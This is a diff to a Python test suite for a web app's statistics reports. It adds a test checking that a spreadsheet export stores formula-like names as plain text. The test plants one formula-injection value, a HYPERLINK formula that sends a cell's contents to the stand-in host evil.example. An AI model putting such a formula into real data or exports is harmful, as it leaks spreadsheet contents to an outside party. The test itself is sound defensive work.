@@ -123,3 +123,13 @@ def test_the_page_of_figures_only_keeps_its_first_total(cast: Any) -> None:
     page = cast.client("cpo").get("/reports/statistics/?measures=n,decided").content.decode()
     foot = page[page.index("<tfoot>") : page.index("</tfoot>")]
     assert foot.count("<th>") == 3 and "<th>3</th><th>0</th><th>合计 Total</th>" in foot
+
+
+def test_a_name_that_reads_as_a_formula_stays_text_in_the_workbook(cast: Any) -> None:
+    register(cast, customer=customer(1))
+    cast.bj01.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    cast.bj01.save(update_fields=["name"])
+    book = _book(cast.client("cpo"), "/api/v1/reports/statistics?group=unit&unit_depth=3")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=")]
+    assert cells and all(c.data_type == "s" for c in cells)
